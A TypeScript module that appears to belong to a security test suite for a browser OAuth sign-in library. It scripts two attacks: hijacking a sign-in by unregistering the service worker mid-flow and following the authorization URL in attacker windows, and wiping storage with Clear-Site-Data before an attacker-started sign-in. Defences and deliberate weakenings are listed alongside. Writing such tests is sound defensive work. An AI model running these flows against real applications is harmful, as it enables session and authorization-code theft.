import type { Attack } from '../attack.js';
import type { Stage } from '../outside/stage.js';
import {
  authorizationUrl,
  OWN_CHALLENGE,
  ownSignIn,
  RESPONSE_MODES,
  removeTheWorker,
} from '../sign-in-of-its-own.js';
import { withoutHeaders, withPageAtRedirectPath } from '../weak/weaken.js';

/** Starts the keeper's own sign-in and sign-out by message, and leads windows of its own through them. */
async function startAndFollow(): Promise<void> {
  const answers = new Map<string, { url?: string }>();
  navigator.serviceWorker.addEventListener('message', ({ data }) => {
    const value = data?.call?.value?.value;
    if (value?.url) answers.set(data.call.id, value);
  });
  const command = async (name: string, value: unknown) => {
    const id = `attacker ${name}`;
    await attacker.post({
      call: { id, type: 'APPLY', path: [name], argumentList: [{ type: 'RAW', value }] },
    });
    for (let round = 0; round < 60 && !answers.has(id); round += 1) await attacker.pause(25);
    return answers.get(id)?.url ?? '';
  };
  const first = attacker.native.open('about:blank', 'attacker');
  const follow = async (url: string) => {
    if (!url) return;
    const frame = document.createElement('iframe');
    frame.src = url;
    document.body.append(frame);
    if (first) first.location.href = url;
    await Promise.all([
      attacker.watch('popup', () => first, 900),
      attacker.watch('frame', () => frame.contentWindow, 900),
    ]);
    frame.remove();
  };
  const signIn = await command('signIn', { mode: 'popup' });
  for (const registration of await navigator.serviceWorker.getRegistrations())
    await registration.unregister();
  await follow(signIn);
}

async function run(stage: Stage): Promise<void> {
  await stage.runInClick(startAndFollow, undefined);
  // The way through the authorization server's sign-out holds an ID token.
  await stage.visit();
  await stage.runInClick(async () => {
    await attacker.post({
      call: {
        id: 'attacker sign-out',
        type: 'APPLY',
        path: ['signOut'],
        argumentList: [{ type: 'RAW', value: { endSession: true } }],
      },
    });
    await attacker.pause(300);
    const popup = attacker.native.open('/session/callback/end', 'attacker');
    await attacker.watch('popup', () => popup, 900);
  }, undefined);
}

const QUERY = {
  system: { responseModes: RESPONSE_MODES, workerOptions: { responseMode: 'query' } },
} as const;

export const hijackedSignIn: Attack = {
  name: 'hijacked sign-in',
  tries:
    'starts the keeper’s own sign-in, removes the worker half-way, and follows it in windows of its own; the sign-out too',
  threat: '5.1.3',
  defence: 'the code comes by POST; the redirect path never rests; the verifier is in the vault',
  weakness: {
    without: 'form_post, the answer at the redirect path, and COOP',
    deployment: QUERY,
    weaken: (stage) => {
      withPageAtRedirectPath(stage);
      withoutHeaders(stage, ['cross-origin-opener-policy']);
    },
  },
  run,
};

/** The server is led to answer with `Clear-Site-Data`, which takes worker and vault away in one stroke. */
export const clearedSite: Attack = {
  name: 'cleared site data',
  tries: '`Clear-Site-Data` on a response takes worker and vault away; then a sign-in of its own',
  threat: '5.1.3',
  defence: 'the redirect path and the policy are the server’s, not the worker’s',
  deployment: { system: { responseModes: RESPONSE_MODES } },
  weakness: {
    without: 'the answer at the redirect path: a page stands there',
    weaken: withPageAtRedirectPath,
  },
  run: async (stage) => {
    stage.onAppRequest((req, res) => {
      if (req.url === '/clear') res.setHeader('clear-site-data', '"storage", "cache"');
      return false;
    });
    await stage.run(async () => {
      await fetch('/clear');
    }, undefined);
    await stage.run(removeTheWorker, undefined);
    const url = await authorizationUrl(ownSignIn(stage, 'query'), OWN_CHALLENGE);
    await stage.runInClick(async (target) => {
      const popup = attacker.native.open(target, 'attacker');
      await attacker.watch('popup', () => popup, 900);
    }, url);
    // The window itself stays: it is watched for where it comes to rest.
    await stage.leaveFor(url);
    await stage.visit();
  },
};
